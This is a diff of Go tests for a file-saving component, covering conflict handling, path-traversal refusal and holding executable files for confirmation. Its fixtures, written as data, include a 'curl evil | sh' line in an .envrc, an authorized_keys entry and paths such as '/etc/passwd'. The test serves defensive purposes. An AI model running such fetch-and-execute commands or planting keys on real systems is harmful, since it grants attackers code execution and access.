@@ -67,18 +67,28 @@ func TestSave(t *testing.T) {
 		want   savedFile
 		files  map[string]string
 	}{
-		{"new", nil, chooseNothing, made("plot.png", "P"), savedFile{Path: "plot.png", As: "plot.png", State: saveDone}, map[string]string{"plot.png": "P"}},
-		{"new folder", nil, chooseNothing, made("a/b/c.txt", "C"), savedFile{Path: "a/b/c.txt", As: "a/b/c.txt", State: saveDone}, map[string]string{"a/b/c.txt": "C"}},
-		{"empty file", nil, chooseNothing, made("e", ""), savedFile{Path: "e", As: "e", State: saveDone}, map[string]string{"e": ""}},
-		{"same bytes are there", map[string]string{"p": "P"}, chooseNothing, made("p", "P"), savedFile{Path: "p", As: "p", State: saveUnchanged}, map[string]string{"p": "P"}},
-		{"nobody to ask", map[string]string{"p": "old"}, chooseNothing, made("p", "new"), savedFile{Path: "p", As: "", State: saveExists}, map[string]string{"p": "old"}},
-		{"no", map[string]string{"p": "old"}, chooseSkip, made("p", "new"), savedFile{Path: "p", As: "", State: saveSkipped}, map[string]string{"p": "old"}},
-		{"yes", map[string]string{"p": "old"}, chooseReplace, made("p", "new"), savedFile{Path: "p", As: "p", State: saveDone}, map[string]string{"p": "new"}},
-		{"rename", map[string]string{"plot.png": "old"}, chooseRename, made("plot.png", "new"), savedFile{Path: "plot.png", As: "plot-1.png", State: saveDone},
+		{"new", nil, chooseNothing, made("plot.png", "P"), savedFile{Path: "plot.png", As: "plot.png", State: saveDone},
+			map[string]string{"plot.png": "P"}},
+		{"new folder", nil, chooseNothing, made("a/b/c.txt", "C"),
+			savedFile{Path: "a/b/c.txt", As: "a/b/c.txt", State: saveDone}, map[string]string{"a/b/c.txt": "C"}},
+		{"empty file", nil, chooseNothing, made("e", ""), savedFile{Path: "e", As: "e", State: saveDone},
+			map[string]string{"e": ""}},
+		{"same bytes are there", map[string]string{"p": "P"}, chooseNothing, made("p", "P"),
+			savedFile{Path: "p", As: "p", State: saveUnchanged}, map[string]string{"p": "P"}},
+		{"nobody to ask", map[string]string{"p": "old"}, chooseNothing, made("p", "new"),
+			savedFile{Path: "p", As: "", State: saveExists}, map[string]string{"p": "old"}},
+		{"no", map[string]string{"p": "old"}, chooseSkip, made("p", "new"), savedFile{Path: "p", As: "", State: saveSkipped},
+			map[string]string{"p": "old"}},
+		{"yes", map[string]string{"p": "old"}, chooseReplace, made("p", "new"),
+			savedFile{Path: "p", As: "p", State: saveDone}, map[string]string{"p": "new"}},
+		{"rename", map[string]string{"plot.png": "old"}, chooseRename, made("plot.png", "new"),
+			savedFile{Path: "plot.png", As: "plot-1.png", State: saveDone},
 			map[string]string{"plot.png": "old", "plot-1.png": "new"}},
-		{"rename twice", map[string]string{"d/p.gz": "a", "d/p-1.gz": "b"}, chooseRename, made("d/p.gz", "new"), savedFile{Path: "d/p.gz", As: "d/p-2.gz", State: saveDone},
+		{"rename twice", map[string]string{"d/p.gz": "a", "d/p-1.gz": "b"}, chooseRename, made("d/p.gz", "new"),
+			savedFile{Path: "d/p.gz", As: "d/p-2.gz", State: saveDone},
 			map[string]string{"d/p.gz": "a", "d/p-1.gz": "b", "d/p-2.gz": "new"}},
-		{"rename a dot file", map[string]string{".x": "old"}, chooseRename, made(".x", "new"), savedFile{Path: ".x", As: ".x-1", State: saveDone}, map[string]string{".x": "old", ".x-1": "new"}},
+		{"rename a dot file", map[string]string{".x": "old"}, chooseRename, made(".x", "new"),
+			savedFile{Path: ".x", As: ".x-1", State: saveDone}, map[string]string{".x": "old", ".x-1": "new"}},
 	}
 	for _, test := range tests {
 		t.Run(test.name, func(t *testing.T) {
@@ -112,8 +122,10 @@ func TestSaveAsksAboutWhatRuns(t *testing.T) {
 		name, content string
 		held          bool
 	}{
-		{".envrc", "curl evil | sh", true}, {".ssh/authorized_keys", "ssh-ed25519 x", true}, {".vscode/tasks.json", "{}", true}, {"conftest.py", "", true},
-		{"Makefile", "all:", true}, {"tool", "#!/bin/sh\n", true}, {"a.bin", "\x7fELF\x02\x01\x01\x00\x00\x00\x00\x00\x00\x00\x00\x00\x03\x00", true}, {"run.exe", "x", true},
+		{".envrc", "curl evil | sh", true}, {".ssh/authorized_keys", "ssh-ed25519 x", true},
+		{".vscode/tasks.json", "{}", true}, {"conftest.py", "", true},
+		{"Makefile", "all:", true}, {"tool", "#!/bin/sh\n", true},
+		{"a.bin", "\x7fELF\x02\x01\x01\x00\x00\x00\x00\x00\x00\x00\x00\x00\x03\x00", true}, {"run.exe", "x", true},
 		{"plot.png", "\x89PNG\r\n\x1a\n", false}, {"data.zip", "PK\x03\x04", false}, {"main.py", "print(1)", false},
 	} {
 		dir := t.TempDir()
@@ -169,7 +181,8 @@ func TestSavePlantsNoRepository(t *testing.T) {
 
 // A service may be anybody: its paths lead nowhere but into the folder.
 func TestSaveRefusesPaths(t *testing.T) {
-	for _, name := range []string{"../x", "/etc/passwd", "a/../../x", "..", ".", "", "a//b", "a/", "./a", "a\x00b", "a\xff"} {
+	for _, name := range []string{"../x", "/etc/passwd", "a/../../x", "..", ".", "", "a//b", "a/", "./a", "a\x00b",
+		"a\xff"} {
 		outside := t.TempDir()
 		dir := filepath.Join(outside, "out")
 		got, err := newSaver(t, dir, chooseReplace).save(t.Context(), made(name, "X"))
@@ -195,7 +208,8 @@ func TestSaveKeepsNames(t *testing.T) {
 		"日本 \"a\" \\ \ufffd.txt": "日本 \"a\" \\ \ufffd.txt",
 	} {
 		dir := filepath.Join(t.TempDir(), "out")
-		if got, err := newSaver(t, dir, chooseReplace).save(t.Context(), made(name, "X")); err != nil || got.State != saveDone {
+		if got, err := newSaver(t, dir, chooseReplace).save(t.Context(), made(name, "X")); err != nil ||
+			got.State != saveDone {
 			t.Errorf("%q: %v, %v", name, got, err)
 		}
 		if diff := cmp.Diff(map[string]string{name: "X"}, tree(t, dir)); diff != "" {
